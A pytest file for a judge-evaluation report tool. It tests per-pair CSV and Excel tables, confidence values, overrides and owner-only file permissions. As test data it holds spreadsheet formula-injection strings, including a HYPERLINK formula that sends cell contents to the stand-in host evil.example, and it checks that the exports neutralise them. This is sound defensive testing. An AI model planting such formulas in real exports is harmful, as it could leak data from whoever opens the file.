"""The per-pair table (pairs.csv, pairs.xlsx) on run databases written directly: one row per task with 1-based
positions, the decision and confidence over both orders, the texts judged, human label and override; hostile text
neutralised in the CSV and held as text (never a formula) in the workbook; owner-only files; the HTML report button's
writer writes the report alone."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from judgedesk.core.reports import (
    EXCEL_CELL_LIMIT,
    load_results,
    pairs_csv,
    pairs_table,
    pairs_workbook,
    restore_csv_cell,
    write_battles,
    write_html_report,
    write_reports,
    write_tables,
)
from judgedesk.core.runs import RunInfo, RunStore, StoredTask, content_hash
from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HOSTILE = (HYPERLINK, "+1+1", "-1-1", "@SUM(A1)", "\t=1+1", "\r=1+1")
KEY = "k" * 64
SETTINGS = {"seed": 0, "decoding": {"mode": "fast"}}


def _record(winner: str | None, p_winner: float = 0.8) -> dict[str, Any]:
    probabilities = {"A": 0.1, "B": 0.1, "tie": 0.0}
    if winner is not None:
        probabilities[winner] = p_winner
    return {"winner": winner, "probabilities": probabilities, "raw_output": "1"}


def _task(position: int, item_id: str, responses: tuple[str, ...], *, model_a: str = "alpha",
          model_b: str | None = "beta", category: str | None = "qa", human: str | None = None,
          instruction: str = "Say hi", input_text: str | None = None) -> StoredTask:
    payload = {"instruction": instruction, "input": input_text, "responses": list(responses), "reference": None}
    return StoredTask(position, item_id, content_hash("task", str(position)), model_a, model_b, category, human,
                      payload)


def _pairwise_run(folder: Path, *, orders: tuple[str, ...] = ("AB", "BA")) -> list[StoredTask]:
    """Five pairs: consistent A (with a human label and an override), inconsistent, unparsed, an error, and one
    not judged yet; the first pair's response B is a hostile formula."""
    tasks = [
        _task(0, "q1", ("Hello!", HYPERLINK), human="A", input_text="politely"),
        _task(1, "q2", ("Hi", "Hey"), model_a="beta", model_b="gamma", category=None),
        _task(2, "q3", ("a", "b")),
        _task(3, "q4", ("c", "d")),
        _task(4, "q5", ("e", "f")),
    ]
    judged = {
        "AB": [("ok", _record("A", 0.9)), ("ok", _record("A", 0.7)), ("unparsed", _record(None)),
               ("error", {"error": "too long"}), None],
        "BA": [("ok", _record("A", 0.7)), ("ok", _record("B", 0.5)), ("ok", _record("B")), ("ok", _record("A")),
               None],
    }
    with RunStore(folder) as store:
        store.ensure_run(RunInfo(KEY, "Test judge / pandalm", "pairwise", orders, SETTINGS, "mem"))
        store.replace_tasks(KEY, tasks)
        store.put_verdicts(KEY, [(task.content, side, *judged[side][n])  # type: ignore[misc]
                                 for side in orders for n, task in enumerate(tasks) if judged[side][n]])
        store.set_override(KEY, tasks[0].content, "B", "=the judge missed it")
    return tasks


def _grading_run(folder: Path) -> None:
    tasks = [_task(0, "g1", ("An answer",), model_b=None), _task(1, "g2", ("@other",), model_b=None),
             _task(2, "g3", ("third",), model_b=None)]
    with RunStore(folder) as store:
        store.ensure_run(RunInfo(KEY, "Test judge / prometheus", "single", ("single",), SETTINGS, "mem"))
        store.replace_tasks(KEY, tasks)
        store.put_verdicts(KEY, [(tasks[0].content, "single", "ok", {"score": 4.0, "raw_output": "4"}),
                                 (tasks[1].content, "single", "unparsed", {"score": None, "raw_output": "?"})])
        store.set_override(KEY, tasks[0].content, 2.5, None)


def _by_column(table: Any) -> list[dict[str, Any]]:
    return [dict(zip(table.columns, row, strict=True)) for row in table.rows]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def umask_zero() -> Iterator[None]:
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


# -- the rows ---------------------------------------------------------------------------------------------------


def test_one_row_per_pair_with_decision_confidence_and_texts(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    rows = _by_column(pairs_table(load_results(tmp_path)))
    assert [row["position"] for row in rows] == [1, 2, 3, 4, 5]
    assert [row["decision"] for row in rows] == ["A", "inconsistent", "unparsed", "unparsed", "pending"]
    assert [row["status"] for row in rows] == ["ok", "ok", "unparsed", "error", "pending"]
    assert [(row["ab_winner"], row["ba_winner"]) for row in rows] == [
        ("A", "A"), ("A", "B"), ("unparsed", "B"), ("error", "A"), ("pending", "pending")]
    assert [row["confidence"] for row in rows] == [0.8, 0.6, 0.8, 0.8, None]  # the mean over the judged orders
    first = rows[0]
    assert (first["item_id"], first["model_a"], first["model_b"], first["category"]) == ("q1", "alpha", "beta", "qa")
    assert first["winning_model"] == "alpha" and rows[1]["winning_model"] is None
    assert (first["instruction"], first["input"], first["response_a"], first["response_b"]) == (
        "Say hi", "politely", "Hello!", HYPERLINK)
    assert (first["human"], first["override"], first["override_note"]) == ("A", "B", "=the judge missed it")
    assert rows[1]["category"] is None and rows[1]["human"] is None and rows[1]["override"] is None
    # The decision is the judge's: the override has its own column and never replaces it.
    assert first["decision"] == "A"


def test_a_one_order_run_leaves_the_second_order_empty(tmp_path: Path) -> None:
    _pairwise_run(tmp_path, orders=("AB",))
    rows = _by_column(pairs_table(load_results(tmp_path)))
    assert [row["ba_winner"] for row in rows] == [None] * 5
    assert [row["decision"] for row in rows] == ["A", "A", "unparsed", "unparsed", "pending"]


def test_a_grading_run_has_a_score_per_item(tmp_path: Path) -> None:
    _grading_run(tmp_path)
    table = pairs_table(load_results(tmp_path))
    assert table.columns == ("position", "item_id", "model", "category", "score", "status", "override",
                             "override_note", "instruction", "input", "response")
    rows = _by_column(table)
    assert [(row["position"], row["score"], row["status"]) for row in rows] == [
        (1, 4.0, "ok"), (2, None, "unparsed"), (3, None, "pending")]
    assert rows[0]["override"] == 2.5 and rows[0]["response"] == "An answer"


# -- pairs.csv -----------------------------------------------------------------------------------------------------


def test_the_csv_neutralises_hostile_text_and_restores_it_exactly(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    with RunStore(tmp_path) as store:  # every hostile start, in the texts the data brings
        tasks = store.tasks(KEY)
        store.replace_tasks(KEY, [StoredTask(t.position, HOSTILE[n % len(HOSTILE)], t.content, *HOSTILE[n:n + 2],
                                             HOSTILE[-1], "A", {**t.payload, "instruction": HOSTILE[n]})
                                  for n, t in enumerate(tasks)])
    text = pairs_csv(pairs_table(load_results(tmp_path)))
    rows = _csv_rows(text)
    assert len(rows) == 5 and text.count("\r\n") >= 6
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert rows[0]["response_b"] == "'" + HYPERLINK and rows[0]["override_note"] == "'=the judge missed it"
    assert [restore_csv_cell(row["instruction"]) for row in rows] == list(HOSTILE[:5])
    assert [row["position"] for row in rows] == ["1", "2", "3", "4", "5"]
    assert rows[0]["confidence"] == "0.8"  # numbers stay numbers


def test_a_carriage_return_inside_a_response_stays_in_its_cell(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    with RunStore(tmp_path) as store:
        first = store.tasks(KEY)[0]
        store.replace_tasks(KEY, [StoredTask(0, "q1", first.content, "alpha", "beta", None, None,
                                             {**first.payload, "responses": ["one\rtwo\r", "x\ny"]})])
    rows = _csv_rows(pairs_csv(pairs_table(load_results(tmp_path))))
    assert len(rows) == 1 and (rows[0]["response_a"], rows[0]["response_b"]) == ("one\rtwo\r", "x\ny")


# -- pairs.xlsx ----------------------------------------------------------------------------------------------------


def _sheet(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).active


def test_the_workbook_holds_no_formula_and_keeps_hostile_text_as_text(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    with RunStore(tmp_path) as store:
        tasks = store.tasks(KEY)
        store.replace_tasks(KEY, [StoredTask(t.position, "#N/A" if n == 1 else HOSTILE[n], t.content, "=1+1",
                                             "@model", "-cat", None, {**t.payload, "instruction": HOSTILE[n]})
                                  for n, t in enumerate(tasks)])
    table = pairs_table(load_results(tmp_path))
    sheet = _sheet(pairs_workbook(table))
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.data_type == "e"] == []  # "#N/A" from the data is text
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    by_name = {name: index + 1 for index, name in enumerate(table.columns)}
    assert sheet.cell(2, by_name["response_b"]).value == HYPERLINK  # the exact text: no quote added
    assert sheet.cell(2, by_name["response_b"]).quotePrefix  # and marked as text for editing in Excel
    assert sheet.cell(2, by_name["override_note"]).value == "=the judge missed it"
    assert [sheet.cell(row, by_name["instruction"]).value for row in range(2, 7)] == list(HOSTILE[:5])
    assert sheet.cell(3, by_name["item_id"]).value == "#N/A" and not sheet.cell(3, by_name["item_id"]).quotePrefix
    assert (sheet.cell(2, by_name["model_a"]).value, sheet.cell(2, by_name["model_b"]).value) == ("=1+1", "@model")
    # Every value of the table, read back as written.
    read = [tuple(cell.value for cell in row) for row in sheet.iter_rows(min_row=2)]
    assert read == [tuple(row) for row in table.rows]


def test_the_workbook_reads_like_the_table(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    table = pairs_table(load_results(tmp_path))
    sheet = _sheet(pairs_workbook(table))
    assert sheet.title == "Pairs"
    assert [cell.value for cell in sheet[1]] == list(table.columns) and all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "C2"  # the header row stays in view (with position and item)
    assert sheet.auto_filter.ref == "A1:R6"
    by_name = {name: index + 1 for index, name in enumerate(table.columns)}
    widths = {name: sheet.column_dimensions[sheet.cell(1, index).column_letter].width
              for name, index in by_name.items()}
    assert widths["position"] < widths["item_id"] < widths["instruction"] < widths["response_a"]
    for name in ("instruction", "input", "response_a", "response_b", "override_note"):
        assert sheet.cell(2, by_name[name]).alignment.wrap_text, name
    assert not sheet.cell(2, by_name["decision"]).alignment.wrap_text
    confidence = sheet.cell(2, by_name["confidence"])
    assert confidence.value == 0.8 and confidence.data_type == "n" and confidence.number_format == "0%"
    assert sheet.cell(2, by_name["position"]).value == 1


def test_what_a_cell_cannot_hold_is_changed_visibly(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    long_text = "x" * (EXCEL_CELL_LIMIT + 100)
    with RunStore(tmp_path) as store:
        first = store.tasks(KEY)[0]
        store.replace_tasks(KEY, [StoredTask(0, "q1", first.content, "alpha", "beta", None, None,
                                             {**first.payload, "responses": ["bell\x07 and nul\x00", long_text]})])
    sheet = _sheet(pairs_workbook(pairs_table(load_results(tmp_path))))
    assert sheet["Q2"].value == "bell\ufffd and nul\ufffd"
    cut = sheet["R2"].value
    assert len(cut) == EXCEL_CELL_LIMIT and cut.startswith("xxx") and "pairs.csv has the whole text" in cut
    # The CSV keeps the whole text.
    rows = _csv_rows(pairs_csv(pairs_table(load_results(tmp_path))))
    assert rows[0]["response_b"] == long_text


def test_a_grading_workbook(tmp_path: Path) -> None:
    _grading_run(tmp_path)
    sheet = _sheet(pairs_workbook(pairs_table(load_results(tmp_path))))
    assert sheet.title == "Grades" and sheet["E2"].value == 4.0 and sheet["E3"].value is None
    assert sheet["K3"].value == "@other" and sheet["K3"].data_type == "s"


# -- the files -----------------------------------------------------------------------------------------------------


def test_write_reports_and_write_tables_write_the_tables_owner_only(tmp_path: Path, umask_zero: None) -> None:
    folder = tmp_path / "run"
    folder.mkdir()
    _pairwise_run(folder)
    files, _ = write_reports(folder, rounds=10)
    assert (files.pairs, files.pairs_workbook) == (folder / "pairs.csv", folder / "pairs.xlsx")
    for path in (files.pairs, files.pairs_workbook, files.verdicts, files.report):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for path in (files.pairs, files.pairs_workbook):
        os.chmod(path, 0o644)
    tables = write_tables(folder)
    assert tables.paths == (folder / "pairs.csv", folder / "pairs.xlsx", folder / "verdicts.csv")
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in tables.paths)
    assert [row["decision"] for row in _csv_rows(files.pairs.read_text(encoding="utf-8"))] == [
        "A", "inconsistent", "unparsed", "unparsed", "pending"]
    assert _sheet(files.pairs_workbook.read_bytes()).max_row == 6
    assert not list(folder.glob(".*.tmp"))


def test_verdicts_csv_keeps_one_row_per_order_and_its_0_based_position(tmp_path: Path) -> None:
    _pairwise_run(tmp_path)
    verdicts = write_tables(tmp_path).verdicts
    rows = _csv_rows(verdicts.read_text(encoding="utf-8"))
    assert [(row["position"], row["side"]) for row in rows] == [
        ("0", "AB"), ("0", "BA"), ("1", "AB"), ("1", "BA"), ("2", "AB"), ("2", "BA"), ("3", "AB"), ("3", "BA")]


def test_the_html_report_alone(tmp_path: Path, umask_zero: None) -> None:
    _pairwise_run(tmp_path)
    report, summary = write_html_report(tmp_path, rounds=10)
    assert report == tmp_path / "report.html" and stat.S_IMODE(report.stat().st_mode) == 0o600
    assert summary["progress"]["tasks"] == 5
    assert sorted(path.name for path in tmp_path.iterdir() if not path.name.startswith("run.sqlite")) == [
        "report.html"]


def test_battles_alone(tmp_path: Path) -> None:
    pairwise, grading = tmp_path / "pairwise", tmp_path / "grading"
    for folder in (pairwise, grading):
        folder.mkdir()
    _pairwise_run(pairwise)
    _grading_run(grading)
    assert write_battles(pairwise) == pairwise / "battles.jsonl"
    assert len((pairwise / "battles.jsonl").read_text(encoding="utf-8").splitlines()) == 2  # A, and inconsistent
    assert not (pairwise / "report.html").exists() and not (pairwise / "pairs.csv").exists()
    assert write_battles(grading) is None and not (grading / "battles.jsonl").exists()
